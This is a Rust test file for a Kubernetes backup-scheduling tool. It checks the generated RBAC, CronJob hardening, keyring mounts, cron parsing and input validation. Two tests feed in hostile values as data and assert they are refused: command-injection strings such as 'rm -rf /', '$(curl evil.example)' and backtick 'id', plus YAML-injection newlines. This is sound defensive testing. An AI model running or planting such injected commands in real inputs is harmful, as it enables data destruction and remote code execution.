use serde_json::Value;

use super::*;

const FINGERPRINT: &str = "0123456789ABCDEF0123456789ABCDEF01234567";
const ARMOURED: &str =
    "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nxjMEZ\n-----END PGP PUBLIC KEY BLOCK-----\n";

fn options(namespaces: Option<&[&str]>) -> ScheduleOptions {
    ScheduleOptions::new(
        "nightly",
        "15 2 * * *",
        namespaces.map(|n| n.iter().map(|s| (*s).to_owned()).collect()),
    )
}

fn of_kind<'a>(objects: &'a [Value], kind: &str) -> Vec<&'a Value> {
    objects.iter().filter(|o| o["kind"] == kind).collect()
}

fn one<'a>(objects: &'a [Value], kind: &str) -> &'a Value {
    let found = of_kind(objects, kind);
    assert_eq!(found.len(), 1, "{kind}: {found:?}");
    found[0]
}

fn args(cron_job: &Value) -> Vec<&str> {
    cron_job["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["args"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap())
        .collect()
}

fn refused(options: &ScheduleOptions) -> String {
    match schedule_manifests(options) {
        Err(Error::Input(message)) => message,
        other => panic!("not refused: {other:?}"),
    }
}

#[test]
fn a_cluster_backup_has_every_object_in_apply_order() {
    let objects = schedule_manifests(&options(None)).unwrap();
    let kinds: Vec<&str> = objects
        .iter()
        .map(|o| o["kind"].as_str().unwrap())
        .collect();
    assert_eq!(
        kinds,
        [
            "Namespace",
            "ServiceAccount",
            "ClusterRole",
            "ClusterRoleBinding",
            "PersistentVolumeClaim",
            "NetworkPolicy",
            "CronJob"
        ]
    );
    assert_eq!(objects[0]["metadata"]["name"], DEFAULT_NAMESPACE);
    for object in &objects[1..] {
        let namespaced = !matches!(
            object["kind"].as_str(),
            Some("ClusterRole" | "ClusterRoleBinding")
        );
        assert_eq!(
            object["metadata"].get("namespace").is_some(),
            namespaced,
            "{object}"
        );
    }

    let role = one(&objects, "ClusterRole");
    assert_eq!(role["metadata"]["name"], "korral-backup.nightly");
    assert_eq!(
        role["rules"],
        serde_json::json!([{"apiGroups": ["*"], "resources": ["*"], "verbs": ["get", "list"]}])
    );
    let binding = one(&objects, "ClusterRoleBinding");
    assert_eq!(binding["roleRef"]["name"], "korral-backup.nightly");
    assert_eq!(
        binding["subjects"],
        serde_json::json!([{"kind": "ServiceAccount", "name": "nightly", "namespace": "korral-backup"}])
    );

    let claim = one(&objects, "PersistentVolumeClaim");
    assert_eq!(
        claim["spec"]["resources"]["requests"]["storage"],
        DEFAULT_STORAGE
    );
    assert!(claim["spec"].get("storageClassName").is_none());

    let policy = one(&objects, "NetworkPolicy");
    assert_eq!(
        policy["spec"]["podSelector"]["matchLabels"],
        one(&objects, "CronJob")["spec"]["jobTemplate"]["spec"]["template"]["metadata"]["labels"]
    );
    assert_eq!(
        policy["spec"]["policyTypes"],
        serde_json::json!(["Ingress"])
    );
    assert!(policy["spec"].get("ingress").is_none());
}

#[test]
fn the_cron_job_is_hardened_and_runs_korral_into_the_claim() {
    let objects = schedule_manifests(&options(None)).unwrap();
    let cron_job = one(&objects, "CronJob");
    let spec = &cron_job["spec"];
    assert_eq!(spec["schedule"], "15 2 * * *");
    assert_eq!(spec["timeZone"], "Etc/UTC");
    assert_eq!(spec["concurrencyPolicy"], "Forbid");
    assert_eq!(spec["successfulJobsHistoryLimit"], 3);
    let pod = &spec["jobTemplate"]["spec"]["template"]["spec"];
    assert_eq!(pod["restartPolicy"], "OnFailure");
    assert_eq!(pod["serviceAccountName"], "nightly");
    assert_eq!(pod["securityContext"]["runAsNonRoot"], true);
    assert_eq!(
        pod["securityContext"]["seccompProfile"]["type"],
        "RuntimeDefault"
    );
    let container = &pod["containers"][0];
    assert_eq!(container["image"], default_image());
    assert!(default_image().ends_with(env!("CARGO_PKG_VERSION")));
    assert_eq!(container["command"], serde_json::json!(["korral"]));
    let security = &container["securityContext"];
    assert_eq!(security["readOnlyRootFilesystem"], true);
    assert_eq!(security["allowPrivilegeEscalation"], false);
    assert_eq!(security["capabilities"]["drop"], serde_json::json!(["ALL"]));
    assert!(container["resources"]["limits"]["memory"].is_string());
    assert_eq!(
        args(cron_job),
        [
            "backup",
            "create",
            "--to-dir",
            "/backups",
            "--keep",
            "7",
            "--all-namespaces"
        ]
    );
    assert_eq!(container["volumeMounts"][0]["mountPath"], BACKUP_DIR);
    assert_eq!(
        pod["volumes"][0]["persistentVolumeClaim"]["claimName"],
        "nightly"
    );
}

#[test]
fn namespaces_are_bound_by_role_bindings_only() {
    let mut options = options(Some(&["shop", "billing"]));
    options.keep = 30;
    options.namespace = "ops".to_owned();
    options.storage = "50Gi".to_owned();
    options.storage_class = Some("fast.ssd".to_owned());
    let objects = schedule_manifests(&options).unwrap();

    let bindings = of_kind(&objects, "RoleBinding");
    let places: Vec<&str> = bindings
        .iter()
        .map(|b| b["metadata"]["namespace"].as_str().unwrap())
        .collect();
    assert_eq!(places, ["shop", "billing"]);
    for binding in bindings {
        assert_eq!(binding["roleRef"]["kind"], "ClusterRole");
        assert_eq!(binding["roleRef"]["name"], "ops.nightly");
        assert_eq!(binding["subjects"][0]["namespace"], "ops");
    }
    // Cluster-wide, only Namespaces and CRDs are read.
    let cluster_binding = one(&objects, "ClusterRoleBinding");
    assert_eq!(cluster_binding["roleRef"]["name"], "ops.nightly.namespaces");
    let roles = of_kind(&objects, "ClusterRole");
    let narrow = roles
        .iter()
        .find(|r| r["metadata"]["name"] == "ops.nightly.namespaces")
        .unwrap();
    let resources: Vec<&Value> = narrow["rules"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|r| r["resources"].as_array().unwrap())
        .collect();
    assert_eq!(resources, ["namespaces", "customresourcedefinitions"]);

    let cron_job = one(&objects, "CronJob");
    assert_eq!(cron_job["metadata"]["namespace"], "ops");
    assert_eq!(
        args(cron_job)[4..],
        [
            "--keep",
            "30",
            "--namespace",
            "shop",
            "--namespace",
            "billing"
        ]
    );
    let claim = one(&objects, "PersistentVolumeClaim");
    assert_eq!(claim["spec"]["resources"]["requests"]["storage"], "50Gi");
    assert_eq!(claim["spec"]["storageClassName"], "fast.ssd");
}

#[test]
fn keys_travel_in_a_config_map_mounted_as_a_keyring() {
    let mut options = options(Some(&["shop"]));
    options.encrypt_to = vec![PublicKey {
        fingerprint: FINGERPRINT.to_lowercase(),
        armoured: ARMOURED.to_owned(),
    }];
    let objects = schedule_manifests(&options).unwrap();
    let config_map = one(&objects, "ConfigMap");
    assert_eq!(config_map["metadata"]["name"], "nightly-keys");
    assert_eq!(config_map["data"][format!("{FINGERPRINT}.asc")], ARMOURED);

    let cron_job = one(&objects, "CronJob");
    let args = args(cron_job);
    assert_eq!(
        args[args.len() - 4..],
        ["--keyring", KEYRING_DIR, "--encrypt-to", FINGERPRINT]
    );
    let pod = &cron_job["spec"]["jobTemplate"]["spec"]["template"]["spec"];
    let volume = pod["volumes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["name"] == "keyring")
        .unwrap();
    assert_eq!(volume["configMap"]["name"], "nightly-keys");
    assert_eq!(
        volume["configMap"]["items"][0]["path"],
        format!("public/{FINGERPRINT}.asc")
    );
    let mount = pod["containers"][0]["volumeMounts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["name"] == "keyring")
        .unwrap();
    assert_eq!(mount["mountPath"], KEYRING_DIR);
    assert_eq!(mount["readOnly"], true);
}

#[test]
fn the_yaml_reads_back_as_the_same_objects() {
    let mut options = options(None);
    options.encrypt_to = vec![PublicKey {
        fingerprint: FINGERPRINT.to_owned(),
        armoured: ARMOURED.to_owned(),
    }];
    let objects = schedule_manifests(&options).unwrap();
    let yaml = to_yaml(&objects).unwrap();
    let set = korral_core::Loader::load_str("schedule.yaml", &yaml).unwrap();
    let back: Vec<Value> = set.objects().iter().map(|o| o.raw().to_value()).collect();
    assert_eq!(back, objects);
}

#[test]
fn schedules_are_read_as_kubernetes_reads_them() {
    for (good, written) in [
        ("15 2 * * *", "15 2 * * *"),
        ("  0  */6 * * 1-5 ", "0 */6 * * 1-5"),
        (
            "0,30 8-18/2 1,15 JAN-jun mon-FRI",
            "0,30 8-18/2 1,15 JAN-jun mon-FRI",
        ),
        ("5/10 0 ? * ?", "5/10 0 ? * ?"),
        ("@Daily", "@daily"),
        ("@hourly", "@hourly"),
    ] {
        let mut options = options(None);
        options.schedule = good.to_owned();
        let objects = schedule_manifests(&options).unwrap_or_else(|e| panic!("{good}: {e}"));
        assert_eq!(one(&objects, "CronJob")["spec"]["schedule"], written);
    }
    for bad in [
        "",
        "* * * *",
        "* * * * * *",
        "60 * * * *",
        "* 24 * * *",
        "* * 0 * *",
        "* * * 13 *",
        "* * * * 7",
        "* * * FOO *",
        "*/0 * * * *",
        "5-1 * * * *",
        "? * * * *",
        "-1 * * * *",
        "+1 * * * *",
        "@every 1h",
        "@reboot",
        "TZ=UTC 0 0 * * *",
    ] {
        let mut options = options(None);
        options.schedule = bad.to_owned();
        let message = refused(&options);
        assert!(
            message.contains("is not a cron schedule"),
            "{bad}: {message}"
        );
    }
}

#[test]
fn hostile_values_are_refused_before_any_manifest() {
    let hostile_schedules = [
        "15 2 * * *\nkind: Secret",
        "15 2 * * *; rm -rf /",
        "$(curl evil.example) * * * *",
        "`id` * * * *",
        "15 2 * * *\u{1b}[2J",
    ];
    for schedule in hostile_schedules {
        let mut options = options(None);
        options.schedule = schedule.to_owned();
        let message = refused(&options);
        assert!(message.contains("has no place"), "{schedule:?}: {message}");
    }

    for namespace in [
        "kube/system",
        "Shop",
        "-shop",
        "shop-",
        "",
        "a.b",
        "shop\n- x",
        &"a".repeat(64),
    ] {
        let mut backed_up = options(Some(&[namespace]));
        assert!(
            refused(&backed_up).contains("is not a namespace name"),
            "{namespace:?}"
        );
        backed_up.namespaces = None;
        backed_up.namespace = namespace.to_owned();
        assert!(
            refused(&backed_up).contains("is not a namespace name"),
            "{namespace:?}"
        );
    }
    assert!(refused(&options(Some(&[]))).contains("no namespace to back up"));

    for name in ["Nightly", "night/ly", &"a".repeat(53)] {
        let mut options = options(None);
        options.name = name.to_owned();
        assert!(
            refused(&options).contains("cannot name a CronJob"),
            "{name}"
        );
    }
}

#[test]
fn hostile_sizes_images_and_keys_are_refused() {
    for size in [
        "",
        "ten",
        "10 Gi",
        "10Gi\nx: y",
        "-1Gi",
        "0",
        "0Gi",
        "1e",
        "Gi",
        "10GB",
        "inf",
        "NaN",
    ] {
        let mut options = options(None);
        options.storage = size.to_owned();
        assert!(
            refused(&options).contains("is not a volume size"),
            "{size:?}"
        );
    }

    for class in ["Fast", "fast/ssd", "fast..ssd", "fast ssd"] {
        let mut options = options(None);
        options.storage_class = Some(class.to_owned());
        assert!(
            refused(&options).contains("is not a StorageClass name"),
            "{class}"
        );
    }

    for image in [
        "",
        "Korral",
        "ghcr.io/korral-dev/korral:1.0 --privileged",
        "ghcr.io/korral-dev/korral:$(id)",
        "ghcr.io/korral-dev/korral:1.0\nkind: Secret",
        "ghcr.io//korral",
        "ghcr.io/korral-dev/korral:",
        "ghcr.io/korral-dev/korral:-x",
        "ghcr.io/korral-dev/korral@sha256:xyz",
        "-ghcr.io/korral",
    ] {
        let mut options = options(None);
        options.image = image.to_owned();
        assert!(
            refused(&options).contains("is not an image reference"),
            "{image:?}"
        );
    }

    let mut options = options(None);
    options.keep = 0;
    assert!(refused(&options).contains("keep at least 1"));

    options.keep = 1;
    options.encrypt_to = vec![PublicKey {
        fingerprint: "ABCD; rm -rf /".to_owned(),
        armoured: ARMOURED.to_owned(),
    }];
    assert!(refused(&options).contains("is not an OpenPGP fingerprint"));
    options.encrypt_to = vec![
        PublicKey {
            fingerprint: FINGERPRINT.to_owned(),
            armoured: ARMOURED.to_owned(),
        };
        2
    ];
    assert!(refused(&options).contains("given twice"));
}

#[test]
fn image_references_in_their_usual_forms_are_taken() {
    for image in [
        "korral",
        "korral-dev/korral:v1.2.3",
        "ghcr.io/korral-dev/korral:0.4.0",
        "localhost:5000/korral:dev_build-1",
        "registry.example.com:443/team/korral__tools/korral:1.0",
        "ghcr.io/korral-dev/korral@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        "ghcr.io/korral-dev/korral:1.0@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    ] {
        let mut options = options(None);
        options.image = image.to_owned();
        let objects = schedule_manifests(&options).unwrap_or_else(|e| panic!("{image}: {e}"));
        assert_eq!(
            one(&objects, "CronJob")["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"]
                [0]["image"],
            image
        );
    }
}
